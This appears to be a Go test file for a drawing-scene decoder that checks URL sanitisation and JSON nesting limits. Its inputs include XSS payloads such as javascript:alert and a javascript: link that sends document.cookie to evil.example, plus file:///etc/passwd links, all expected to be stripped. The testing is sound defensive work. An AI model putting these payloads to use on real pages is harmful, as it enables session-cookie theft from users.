package scene

import (
	"strings"
	"testing"
)

func TestSafeLink(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"https://example.com/a?b=c#d", "https://example.com/a?b=c#d"},
		{"http://example.com", "http://example.com"},
		{"  HTTPS://Example.com/x ", "HTTPS://Example.com/x"},
		{"javascript:alert(1)", ""},
		{"JavaScript:alert(document.cookie)", ""},
		{"java\tscript:alert(1)", ""},
		{"\x01javascript:alert(1)", ""},
		{"javascript://example.com/%0Aalert(1)", ""},
		{"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ""},
		{"file:///etc/passwd", ""},
		{"vbscript:msgbox(1)", ""},
		{"ftp://example.com/x", ""},
		{"//evil.example/x", ""},
		{"/relative/path", ""},
		{"[[README]]", ""},
		{"https://bank.example@evil.example/login", ""},
		{"https:evil.example", ""},
		{"https://exa mple.com", ""},
		{`https:\\evil.example`, ""},
		{"https://example.com/" + strings.Repeat("a", MaxLinkLength), ""},
		{"", ""},
	} {
		if got := SafeLink(tc.in); got != tc.want {
			t.Errorf("SafeLink(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestDecodeDropsUnsafeLinksAndFiles: an uploaded or browser-saved scene is untrusted. Decode
// keeps http(s) links, drops the rest (elements of every type, embeddables included), and drops
// files that would be fetched from a URL instead of being inline images.
func TestDecodeDropsUnsafeLinksAndFiles(t *testing.T) {
	doc := `{"type":"excalidraw","elements":[
	 {"id":"ok","type":"rectangle","link":"https://example.com/spec"},
	 {"id":"js","type":"rectangle","link":"javascript:fetch('https://evil.example/?c='+document.cookie)"},
	 {"id":"tx","type":"text","text":"click","link":"data:text/html,<script>alert(1)</script>"},
	 {"id":"em","type":"embeddable","link":"file:///etc/passwd"},
	 {"id":"im","type":"image","fileId":"f2","status":"saved"}],
	 "files":{"f1":{"id":"f1","mimeType":"image/png","dataURL":"data:image/png;base64,iVBORw0KGgo="},
	          "f2":{"id":"f2","mimeType":"image/png","dataURL":"https://evil.example/track.png"},
	          "f3":"not an object"}}`
	s, err := Decode([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, e := range s.Elements() {
		got[e.ID] = e.Link
	}
	want := map[string]string{"ok": "https://example.com/spec", "js": "", "tx": "", "em": "", "im": ""}
	for id, w := range want {
		if got[id] != w {
			t.Errorf("%s: link %q, want %q", id, got[id], w)
		}
	}
	out, err := s.Encode()
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"javascript:", "data:text/html", "file:", "evil.example", "not an object"} {
		if strings.Contains(string(out), bad) {
			t.Errorf("encoded scene still holds %q", bad)
		}
	}
	if !strings.Contains(string(out), "data:image/png;base64") {
		t.Errorf("the inline image file was dropped too")
	}
}

// TestDecodeRefusesDeepNesting: unknown fields are kept and written back indented, so before the
// depth limit 12 KB of nested arrays in one element's customData took seconds to decode and
// re-encoded to tens of megabytes (found by the FuzzDecode seed deep-nesting).
func TestDecodeRefusesDeepNesting(t *testing.T) {
	nest := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
	for _, tc := range []struct {
		name string
		doc  string
		ok   bool
	}{
		{"custom data 3000 deep", `{"type":"excalidraw","elements":[{"id":"a","type":"rectangle","customData":` + nest(3000) + `}]}`, false},
		{"appState 200 deep", `{"type":"excalidraw","elements":[],"appState":{"x":` + nest(200) + `}}`, false},
		{"brackets inside strings do not count", `{"type":"excalidraw","elements":[{"id":"a","type":"text","text":"` + nest(500) + `\"[{"}]}`, true},
		{"custom data 40 deep", `{"type":"excalidraw","elements":[{"id":"a","type":"rectangle","customData":` + nest(40) + `}]}`, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s, err := Decode([]byte(tc.doc))
			if tc.ok {
				if err != nil {
					t.Fatal(err)
				}
				out, err := s.Encode()
				if err != nil || len(out) > 40*len(tc.doc) {
					t.Errorf("encoded %d bytes from %d (%v)", len(out), len(tc.doc), err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), "nested more than 64 levels") {
				t.Errorf("err = %v, want a refusal naming the depth limit", err)
			}
		})
	}
}
